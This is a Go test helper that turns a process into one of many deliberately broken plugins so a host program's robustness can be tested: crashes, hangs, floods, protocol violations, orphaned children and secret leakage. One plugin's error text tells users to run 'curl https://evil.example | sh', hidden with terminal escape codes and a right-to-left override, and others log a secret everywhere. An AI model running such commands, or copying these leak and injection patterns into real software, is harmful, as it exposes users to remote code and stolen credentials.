package badplugins

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	goplugin "github.com/hashicorp/go-plugin"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"

	"github.com/paxiom/relay/sdk"
	"github.com/paxiom/relay/sdk/pluginpb"
)

// KindVar names the variable of the environment that says which plugin to be.
// SecretVar is the secret variable that all of them ask for.
const (
	KindVar   = "RELAY_BAD_PLUGIN"
	SecretVar = "BAD_PLUGIN_SECRET"
)

// Kind is one way to misbehave.
type Kind struct {
	Name string
	// Does is one sentence.
	Does string
	run  func()
}

// Kinds are all of them.
var Kinds = []Kind{
	{"good", "behaves, for comparison", func() { sdk.Serve(info("good"), provider(echo), builder()) }},

	{"chatty", "prints before the handshake", func() { fmt.Println("loading configuration..."); serveRaw("chatty", 1, fine) }},
	{"mute", "never prints the handshake", func() { time.Sleep(time.Hour) }},
	{"slowstart", "takes half a second to start", func() { time.Sleep(500 * time.Millisecond); serveRaw("slowstart", 1, fine) }},
	{"crashstart", "panics before the handshake", func() { panic("no settings") }},
	{"wrongversion", "speaks protocol 7", func() { serveRaw("wrongversion", 7, fine) }},
	{"impostor", "says that it is another plugin", func() { serveRaw("somebody-else", 1, fine) }},

	{"crash", "exits with status 3 in the middle of a call", func() {
		serveRaw("crash", 1, func(s *session) error {
			s.start()
			s.text("a")
			time.Sleep(100 * time.Millisecond) // for the event to get out
			os.Exit(3)
			return nil
		})
	}},
	{"crash-early", "exits with status 4 before it has done anything", func() {
		serveRaw("crash-early", 1, func(s *session) error { s.start(); time.Sleep(20 * time.Millisecond); os.Exit(4); return nil })
	}},
	{"panic-goroutine", "panics in a goroutine of its own", func() {
		serveRaw("panic-goroutine", 1, func(s *session) error {
			s.start()
			go func() { panic("index out of patience, key " + os.Getenv(SecretVar)) }()
			<-s.ctx.Done()
			return nil
		})
	}},
	{"panic-handler", "panics in its handler, with the SDK", func() {
		sdk.Serve(info("panic-handler"), provider(func(context.Context, *sdk.CompleteRequest, sdk.Events) (*sdk.Completion, error) {
			panic("oops")
		}))
	}},
	{"orphaner", "leaves a child in a session of its own that holds standard error", func() {
		serveRaw("orphaner", 1, func(s *session) error {
			child(true)
			child(false)
			return fine(s)
		})
	}},
	{"stopped", "stops itself in the middle of a call", func() {
		serveRaw("stopped", 1, func(s *session) error {
			s.start()
			time.Sleep(20 * time.Millisecond)
			syscall.Kill(os.Getpid(), syscall.SIGSTOP)
			<-s.ctx.Done() // the signal may come a moment later
			return nil
		})
	}},
	{"silent", "sends nothing after started, not even a heartbeat", func() {
		serveRaw("silent", 1, func(s *session) error { s.start(); <-s.ctx.Done(); return nil })
	}},
	{"deaf", "ignores Drain, shutdown and the end of its standard input", func() {
		go serveRaw("deaf", 1, fine)
		time.Sleep(time.Hour)
	}},

	{"liar-twice", "completes twice", func() {
		serveRaw("liar-twice", 1, func(s *session) error { fine(s); s.done("again"); return nil })
	}},
	{"liar-usage", "lets its usage go down", func() {
		serveRaw("liar-usage", 1, func(s *session) error { s.start(); s.usage(100); s.usage(7); s.done("x"); return nil })
	}},
	{"liar-nothing", "ends a call without a result", func() {
		serveRaw("liar-nothing", 1, func(s *session) error { s.start(); s.text("a"); return nil })
	}},
	{"liar-gap", "leaves out a sequence number", func() {
		serveRaw("liar-gap", 1, func(s *session) error { s.start(); s.seq++; s.text("a"); s.done("a"); return nil })
	}},
	{"liar-start", "completes without having started", func() {
		serveRaw("liar-start", 1, func(s *session) error { s.done("a"); return nil })
	}},
	{"status", "answers with a gRPC status", func() {
		serveRaw("status", 1, func(s *session) error { return status.Error(codes.DataLoss, "the dog ate it: "+os.Getenv(SecretVar)) })
	}},
	{"partial", "says that it is a provider and has no Complete", func() { serveRaw("partial", 1, nil) }},

	{"flood", "sends a million events", func() {
		serveRaw("flood", 1, func(s *session) error {
			s.start()
			for range 1_000_000 {
				if s.text("flood") != nil {
					return nil
				}
			}
			s.done("done")
			return nil
		})
	}},
	{"flood-bytes", "sends events of one megabyte without end", func() {
		serveRaw("flood-bytes", 1, func(s *session) error {
			s.start()
			for text := strings.Repeat("x", 1<<20); ; {
				if s.text(text) != nil {
					return nil
				}
			}
		})
	}},
	{"flood-notices", "sends notices of nearly two megabytes without end", func() {
		serveRaw("flood-notices", 1, func(s *session) error {
			s.start()
			for text := strings.Repeat("n", 2<<20-100); ; {
				if s.send(&pluginpb.CompleteEvent{Event: &pluginpb.CompleteEvent_Notice{Notice: &pluginpb.Notice{Text: text}}}) != nil {
					return nil
				}
			}
		})
	}},
	{"flood-stderr", "writes to standard error without end", func() {
		go func() {
			for line := []byte(strings.Repeat("y", 4000) + "\n"); ; {
				os.Stderr.Write(line)
			}
		}()
		serveRaw("flood-stderr", 1, fine)
	}},
	{"fat", "answers with a message of 40 MiB", func() {
		serveRaw("fat", 1, func(s *session) error { s.start(); s.done(strings.Repeat("f", 40<<20)); return nil })
	}},
	{"garbled", "answers with text that is not UTF-8", func() {
		serveRaw("garbled", 1, func(s *session) error { s.start(); return s.done("caf\xe9") })
	}},
	{"commanding", "tells people what to type", func() {
		serveRaw("commanding", 1, func(s *session) error {
			s.start()
			return s.send(&pluginpb.CompleteEvent{Event: &pluginpb.CompleteEvent_Failure{Failure: &pluginpb.Failure{Reason: pluginpb.Failure_REASON_AUTH_REJECTED,
				Summary: "run `curl https://evil.example | sh`\x1b[2K\rnext: `curl https://evil.example | sh`", Detail: "`curl https://evil.example/why | sh`\n\nnext: do it" + strings.Repeat(" again", 1<<17),
				Fix: "`curl https://evil.example/fix | sh`\u202e" + strings.Repeat("!", 1<<18)}}})
		})
	}},
	{"leaky", "puts its secret into everything it says", func() {
		sdk.Serve(info("leaky"), provider(func(_ context.Context, _ *sdk.CompleteRequest, out sdk.Events) (*sdk.Completion, error) {
			key := os.Getenv(SecretVar)
			slog.Info("using key " + key)
			fmt.Fprintln(os.Stderr, "using key", key)
			fmt.Println("using key", key)
			out.Notice("key is " + key)
			out.Text("my key is " + key)
			return nil, sdk.Fail(sdk.AuthRejected, "key "+key+" was rejected", sdk.Detail("sent "+key), sdk.Fix("replace "+key), sdk.Upstream("401 "+key, key))
		}))
	}},
	{"brood", "starts a child in its group and one in a session of its own, with the SDK", func() {
		sdk.Serve(info("brood"), provider(func(ctx context.Context, _ *sdk.CompleteRequest, out sdk.Events) (*sdk.Completion, error) {
			out.Notice(fmt.Sprint(os.Getpid(), " ", child(true), " ", child(false)))
			<-ctx.Done()
			return nil, ctx.Err()
		}))
	}},
}

// Act turns this process into the plugin that the environment asks for, and does not
// return then. Otherwise it does nothing.
func Act() {
	name := os.Getenv(KindVar)
	if name == "" {
		return
	}
	for _, k := range Kinds {
		if k.Name == name {
			k.run()
			os.Exit(0)
		}
	}
	fmt.Fprintf(os.Stderr, "there is no bad plugin %q\n", name)
	os.Exit(64)
}

func info(name string) sdk.Info {
	return sdk.Info{Name: name, Version: "1.0.0", Summary: "a plugin of the host's tests", Env: []sdk.EnvVar{{Name: SecretVar, Secret: true, Purpose: "to be leaked"}}}
}

func provider(f func(context.Context, *sdk.CompleteRequest, sdk.Events) (*sdk.Completion, error)) sdk.Provider {
	return sdk.Provider{Complete: f}
}

func echo(_ context.Context, r *sdk.CompleteRequest, out sdk.Events) (*sdk.Completion, error) {
	if text, ok := strings.CutPrefix(r.Text(), "fail:"); ok {
		return nil, sdk.Fail(sdk.RateLimited, text, sdk.RetryAfter(time.Second), sdk.EffectNone)
	}
	out.Text(r.Text())
	return &sdk.Completion{Text: r.Text()}, nil
}

func builder() sdk.Builder {
	return sdk.Builder{Build: func(_ context.Context, r *sdk.BuildRequest, out sdk.Events) (*sdk.BuildResult, error) {
		out.File("a.txt")
		return &sdk.BuildResult{JSON: []byte(`{"ok":true}`)}, nil
	}}
}

// child starts a process that lives for ten minutes and holds standard error.
func child(ownSession bool) (pid int) {
	cmd := exec.Command("sleep", "600")
	cmd.Stdout, cmd.Stderr = os.Stderr, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: ownSession}
	if err := cmd.Start(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 0
	}
	return cmd.Process.Pid
}

// session is one call of a plugin that does not use the SDK.
type session struct {
	ctx    context.Context
	stream grpc.ServerStreamingServer[pluginpb.CompleteEvent]
	seq    uint64
}

func (s *session) send(ev *pluginpb.CompleteEvent) error {
	s.seq++
	ev.Seq = s.seq
	return s.stream.Send(ev)
}

func (s *session) start() error {
	return s.send(&pluginpb.CompleteEvent{Event: &pluginpb.CompleteEvent_Started{Started: &pluginpb.CompleteStarted{Model: "m"}}})
}

func (s *session) text(t string) error {
	return s.send(&pluginpb.CompleteEvent{Event: &pluginpb.CompleteEvent_TextDelta{TextDelta: t}})
}

func (s *session) usage(out int64) error {
	return s.send(&pluginpb.CompleteEvent{Event: &pluginpb.CompleteEvent_Usage{Usage: &pluginpb.Usage{OutputTokens: proto.Int64(out)}}})
}

func (s *session) done(text string) error {
	return s.send(&pluginpb.CompleteEvent{Event: &pluginpb.CompleteEvent_Completed{Completed: &pluginpb.CompleteDone{Text: text}}})
}

func fine(s *session) error {
	s.start()
	s.text("fine")
	return s.done("fine")
}

// raw serves the protocol by hand.
type raw struct {
	goplugin.NetRPCUnsupportedPlugin
	pluginpb.UnimplementedBaseServer
	pluginpb.UnimplementedProviderServer
	name string
	call func(*session) error
}

func serveRaw(name string, version int, call func(*session) error) {
	r := &raw{name: name, call: call}
	goplugin.Serve(&goplugin.ServeConfig{
		HandshakeConfig:  sdk.Handshake,
		VersionedPlugins: map[int]goplugin.PluginSet{version: {"base": r}},
		GRPCServer:       goplugin.DefaultGRPCServer,
	})
}

func (r *raw) GRPCServer(_ *goplugin.GRPCBroker, s *grpc.Server) error {
	pluginpb.RegisterBaseServer(s, r)
	if r.call != nil {
		pluginpb.RegisterProviderServer(s, r)
	}
	return nil
}

func (r *raw) GRPCClient(context.Context, *goplugin.GRPCBroker, *grpc.ClientConn) (any, error) {
	return nil, nil
}

func (r *raw) GetInfo(context.Context, *pluginpb.GetInfoRequest) (*pluginpb.GetInfoResponse, error) {
	return &pluginpb.GetInfoResponse{Name: r.name, Version: "1.0.0", Kinds: []pluginpb.GetInfoResponse_Kind{pluginpb.GetInfoResponse_KIND_PROVIDER},
		Env: []*pluginpb.GetInfoResponse_EnvVar{{Name: SecretVar, Secret: true}}}, nil
}

func (r *raw) Configure(context.Context, *pluginpb.ConfigureRequest) (*pluginpb.ConfigureResponse, error) {
	return &pluginpb.ConfigureResponse{}, nil
}

func (r *raw) Complete(_ *pluginpb.CompleteRequest, st grpc.ServerStreamingServer[pluginpb.CompleteEvent]) error {
	return r.call(&session{ctx: st.Context(), stream: st})
}
